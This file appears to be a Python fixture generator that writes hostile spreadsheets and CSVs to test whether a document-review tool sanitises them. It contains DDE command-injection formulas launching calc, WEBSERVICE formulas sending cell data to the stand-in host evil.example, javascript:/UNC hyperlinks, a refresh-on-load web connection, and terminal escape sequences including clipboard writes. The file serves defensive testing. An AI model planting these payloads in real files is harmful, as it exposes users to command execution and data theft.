"""Hostile inputs for the outputs (issue 13, parts 1 and 4), written on demand — nothing is committed but this.

Each function writes one small file (a few KB) into a folder and returns its path:

* :func:`formulas_and_links` — a self-evaluation workbook that also holds a DDE formula, HYPERLINK /
  WEBSERVICE / IMPORTXML formulas, a reference into an external workbook on a UNC share (with its
  externalLink part), ``javascript:``/``file:``/UNC hyperlinks beside safe ones, a defined name, a
  conditional format and a data validation that call functions, a data connection, a VBA project and
  ``fullCalcOnLoad``; formulas with and without cached values;
* :func:`escape_sequences` — a CSV table whose cells carry terminal escapes (OSC 0 title, OSC 52
  clipboard, OSC 8 link, CSI, 8-bit CSI, BEL, bidi override) and spreadsheet formulas
  (``=HYPERLINK…``, ``@SUM…``, ``-2+3+cmd|…``), written as copies for several departments so that
  ``clones`` finds the shared texts;
* :func:`chatty_xls` — a valid xls with bytes after its last sector: xlrd prints ``WARNING *** file
  size … not 512 + multiple of sector size`` to its logfile, sys.stdout unless told otherwise;
* :func:`gbk_named` — a table whose file name is GBK bytes, not UTF-8 (Python carries it as lone
  surrogates).

Run as a script to write them all into a folder: ``python tests/data/hostile/make_hostile.py OUT``.
"""

from __future__ import annotations

import io
import os
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

CORPUS = Path(__file__).resolve().parents[3] / "corpus"
WIDE_XLSX = CORPUS / "culture-2022-wide.xlsx"
WIDE_CSV = CORPUS / "transport-2021-wide.csv"
XLS = CORPUS / "agri-2021-standard.xls"

DDE = "cmd|' /C calc'!A0"
UNC_BOOK = "\\\\evil.example\\share\\book.xlsx"
#: Formulas put beside the table (column of the sheet, row) → (formula, cached value or None).
FORMULAS: dict[str, tuple[str, str | None]] = {
    "dde": (f"={DDE}", "0"),
    "hyperlink": ('=HYPERLINK("file://\\\\evil.example\\share\\x.exe","点我")', None),
    "webservice": ('=WEBSERVICE("http://evil.example/?q="&A1)', None),
    "importxml": ('=IMPORTXML("http://evil.example/","//a")', None),
    "external": ("=[1]Sheet1!A1", "42"),
    "sum": ("=SUM(1,2)", "3"),
}
#: Hyperlink targets put on cells beside the table, and whether a reviewer's copy may keep them.
LINKS: dict[str, bool] = {
    "javascript:alert(document.domain)": False,
    " JavaScript:alert(1)": False,
    "file:///C:/Windows/System32/calc.exe": False,
    "\\\\evil.example\\share\\payload.xlsx": False,
    "..\\..\\payload.exe": False,
    "https://www.gov.cn/": True,
    "mailto:reviewer@example.gov.cn": True,
}

_EXTERNAL_LINK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
    '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row></sheetData>'
    "</sheetDataSet></externalBook></externalLink>"
)
_EXTERNAL_LINK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    f'externalLinkPath" Target="file:///{UNC_BOOK.replace(chr(92), "/")}" TargetMode="External"/>'
    "</Relationships>"
)
_DDE_LINK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
    "</ddeLink></externalLink>"
)
_CONNECTIONS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<connection id="1" name="evil" type="4" refreshedVersion="6" refreshOnLoad="1" background="1">'
    '<webPr url="http://evil.example/data" htmlTables="1"/></connection></connections>'
)
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_CT_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def formulas_and_links(folder: Path, name: str = "formulas-links.xlsx", *, dde_link: bool = False) -> Path:
    """The self-evaluation table of ``WIDE_XLSX`` plus everything that must not reach a reviewer's copy.

    ``dde_link`` adds a DDE externalLink part as Excel writes it, which openpyxl cannot load with its
    default ``keep_links=True`` (so the readers refuse such a file, E104); the copy must still drop it.
    """
    import openpyxl
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.styles import PatternFill
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation
    from openpyxl.worksheet.hyperlink import Hyperlink

    workbook = openpyxl.load_workbook(WIDE_XLSX)
    sheet = workbook.worksheets[0]
    column = sheet.max_column + 3  # beside the table, where no reader takes it for a column of it
    letter = openpyxl.utils.get_column_letter(column)
    for row, (formula, _) in enumerate(FORMULAS.values(), start=1):
        sheet.cell(row=row, column=column, value=formula)
    for row, target in enumerate(LINKS, start=1):
        cell = sheet.cell(row=row, column=column + 1, value=f"链接{row}")
        cell.hyperlink = Hyperlink(ref=cell.coordinate, target=target)
    inside = sheet.cell(row=len(LINKS) + 1, column=column + 1, value="本表内")
    inside.hyperlink = Hyperlink(ref=inside.coordinate, location=f"'{sheet.title}'!A1")
    workbook.defined_names["evil"] = DefinedName("evil", attr_text=DDE)
    workbook.defined_names["表头"] = DefinedName("表头", attr_text=f"'{sheet.title}'!$A$1:$B$2")
    red = PatternFill(fill_type="solid", start_color="FFFF0000", end_color="FFFF0000")
    sheet.conditional_formatting.add(f"{letter}1:{letter}9", FormulaRule(
        formula=['ISNUMBER(WEBSERVICE("http://evil.example/?"&A1))'], fill=red))  # fmt: skip
    validation = DataValidation(type="list", formula1='INDIRECT("[1]Sheet1!A1:A3")')
    validation.add(f"{letter}12")
    sheet.add_data_validation(validation)
    buffer = io.BytesIO()
    workbook.save(buffer)
    path = folder / name
    path.write_bytes(_add_parts(buffer.getvalue(), sheet_part="xl/worksheets/sheet1.xml", letter=letter,
                                dde_link=dde_link))  # fmt: skip
    return path


def _add_parts(data: bytes, *, sheet_part: str, letter: str, dde_link: bool) -> bytes:
    """Cached values for some formulas, externalLink (UNC book and DDE), connections and vbaProject parts."""
    parts: dict[str, bytes] = {}
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        for item in source.infolist():
            parts[item.filename] = source.read(item.filename)
    sheet = parts[sheet_part].decode("utf-8")
    for row, (_, cached) in enumerate(FORMULAS.values(), start=1):
        if cached is not None:  # openpyxl writes <f>…</f><v></v> (or <v/>): give it the value Excel saved
            sheet = re.sub(
                rf'(<c r="{letter}{row}"[^>]*>)(<f>.*?</f>)<v\s*/?>(?:</v>)?', rf"\1\2<v>{cached}</v>", sheet
            )
    parts[sheet_part] = sheet.encode("utf-8")
    parts["xl/externalLinks/externalLink1.xml"] = _EXTERNAL_LINK.encode()
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = _EXTERNAL_LINK_RELS.encode()
    if dde_link:
        parts["xl/externalLinks/externalLink2.xml"] = _DDE_LINK.encode()
    parts["xl/connections.xml"] = _CONNECTIONS.encode()
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE header is enough
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdX1" Type="{_REL}/externalLink" Target="externalLinks/externalLink1.xml"/>'
        + (f'<Relationship Id="rIdX2" Type="{_REL}/externalLink" Target="externalLinks/externalLink2.xml"/>'
           if dde_link else "")
        + f'<Relationship Id="rIdC1" Type="{_REL}/connections" Target="connections.xml"/>'
        '<Relationship Id="rIdV1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/></Relationships>',
    )
    parts["xl/_rels/workbook.xml.rels"] = rels.encode()
    book = parts["xl/workbook.xml"].decode()
    book = re.sub(
        r"(</sheets>)",
        r'\1<externalReferences><externalReference r:id="rIdX1"/>'
        + (r'<externalReference r:id="rIdX2"/>' if dde_link else "")
        + r"</externalReferences>",
        book,
    )
    root = re.search(r"<workbook[^>]*>", book)
    if root is not None and "xmlns:r=" not in root.group():
        book = book.replace("<workbook ", f'<workbook xmlns:r="{_REL}" ', 1)
    parts["xl/workbook.xml"] = book.encode()
    types = parts["[Content_Types].xml"].decode()
    types = types.replace(
        "</Types>",
        '<Override PartName="/xl/externalLinks/externalLink1.xml" '
        f'ContentType="{_CT_MAIN}.externalLink+xml"/>'
        + (f'<Override PartName="/xl/externalLinks/externalLink2.xml" ContentType="{_CT_MAIN}.externalLink+xml"/>'
           if dde_link else "")
        + f'<Override PartName="/xl/connections.xml" ContentType="{_CT_MAIN}.connections+xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    parts["[Content_Types].xml"] = types.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return out.getvalue()


#: Terminal escapes and formulas planted in the CSV table (row, column 1-based) → text.
OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;ZXZpbA==\x1b\\"
OSC_LINK = "\x1b]8;;http://evil.example/\x1b\\看这里\x1b]8;;\x1b\\"
CSI = "\x1b[2J\x1b[31m"
C1_CSI = "\x9b31m"
BIDI = "\u202e"
ESCAPES = (OSC_TITLE, OSC_CLIPBOARD, OSC_LINK, CSI, C1_CSI, BIDI, "\x07", "\x08")
FORMULA_TEXTS = (  # each with enough Chinese for the corpus index (clones) to take it
    '=HYPERLINK("http://evil.example/","点击此处查看完成情况")',
    "@SUM(1+1)*cmd|' /C calc'!A0 路面修补完成情况",
    "-2+3+cmd|' /C calc'!A0 全年养护任务完成情况",
)
DEPARTMENTS = ("某区交通运输局", "某区水务局", "某区文化旅游局")


def _escape_rows(department: str) -> list[list[str]]:
    import csv

    rows = list(csv.reader(io.StringIO(WIDE_CSV.read_text(encoding="utf-8-sig"))))
    rows = [[cell.replace(DEPARTMENTS[0], department) for cell in row] for row in rows]
    first = 6  # the first project's row (0-based)
    rows[first][2] = f"农村公路养护工程{OSC_TITLE}{OSC_CLIPBOARD}{CSI}"
    # Completion copied from the target (CP001 quotes it) — with a formula and escapes in it.
    for column, text in zip((10, 12, 14), FORMULA_TEXTS, strict=True):
        rows[first][column] = rows[first][column + 1] = f"{text}{OSC_LINK}{C1_CSI}{BIDI}\x07\x08"
    return rows


def escape_sequences(folder: Path) -> list[Path]:
    """Three copies of the transport table (one per department) with escapes and formulas in their cells."""
    import csv

    paths = []
    for number, department in enumerate(DEPARTMENTS, start=1):
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows(_escape_rows(department))
        path = folder / f"escapes-{number}.csv"
        path.write_text(buffer.getvalue(), encoding="utf-8")
        paths.append(path)
    return paths


def chatty_xls(folder: Path) -> Path:
    """A valid xls followed by 7 stray bytes, which makes xlrd print a WARNING line to its logfile."""
    path = folder / "chatty.xls"
    path.write_bytes(XLS.read_bytes() + b"garbage")
    return path


GBK_NAME = os.fsdecode("交通运输局自评表".encode("gbk") + b".csv")


def gbk_named(folder: Path) -> Path:
    """The transport table under a GBK-encoded file name (not valid UTF-8)."""
    path = folder / GBK_NAME
    path.write_bytes(WIDE_CSV.read_bytes())
    return path


CASES: dict[str, Callable[[Path], object]] = {
    "formulas-links": formulas_and_links,
    "escapes": escape_sequences,
    "chatty-xls": chatty_xls,
    "gbk-name": gbk_named,
}


def main(out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    for case in CASES.values():
        case(out)


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else Path("hostile-out"))
